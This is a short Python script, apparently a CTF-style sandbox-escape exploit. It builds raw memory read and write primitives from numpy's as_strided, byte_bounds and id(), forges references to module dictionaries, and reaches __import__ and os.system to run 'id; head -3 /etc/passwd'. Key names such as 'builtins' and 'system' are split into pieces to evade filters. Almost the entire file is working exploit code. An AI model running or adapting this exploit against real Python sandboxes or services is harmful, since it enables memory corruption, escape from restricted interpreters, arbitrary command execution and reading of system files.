# source: numpy as_strided out-of-bounds memory access (numpy docs warning "can point at invalid memory"; CTF numpy sandbox escapes via as_strided / id() address arithmetic, e.g. pyjail numpy memory r/w write-ups)
# family: raw memory read/write via numpy.lib.stride_tricks.as_strided + np.byte_bounds + id(): forge a reference to a module __dict__ in a list slot
# goal: json.__dict__ -> __builtins__ -> __import__("os") -> os.__dict__["system"]("id; head -3 /etc/passwd")
import json
import numpy as np
from numpy.lib.stride_tricks import as_strided

base = np.zeros(1, dtype=np.uint64)
lo = np.byte_bounds(base)[0]

def cell(addr):
    return as_strided(base, shape=(2,), strides=(addr - lo,))

def rd(addr):
    return int(cell(addr)[1])

def wr(addr, val):
    v = cell(addr)
    v[1] = val

def forge(addr):
    holder = [None, None]
    items = rd(id(holder) + 24)
    wr(addr, rd(addr) + 1)
    wr(items, addr)
    return holder[0]

u = "_" * 2
jd = forge(rd(id(json) + 16))
bi = jd[u + "builtins" + u]
imp = bi[u + "import" + u]
os_mod = imp("o" + "s")
print(os_mod)
osd = forge(rd(id(os_mod) + 16))
root = "/data/"[0]
osd["sys" + "tem"]("id; head -3 " + root + "etc" + root + "passwd")
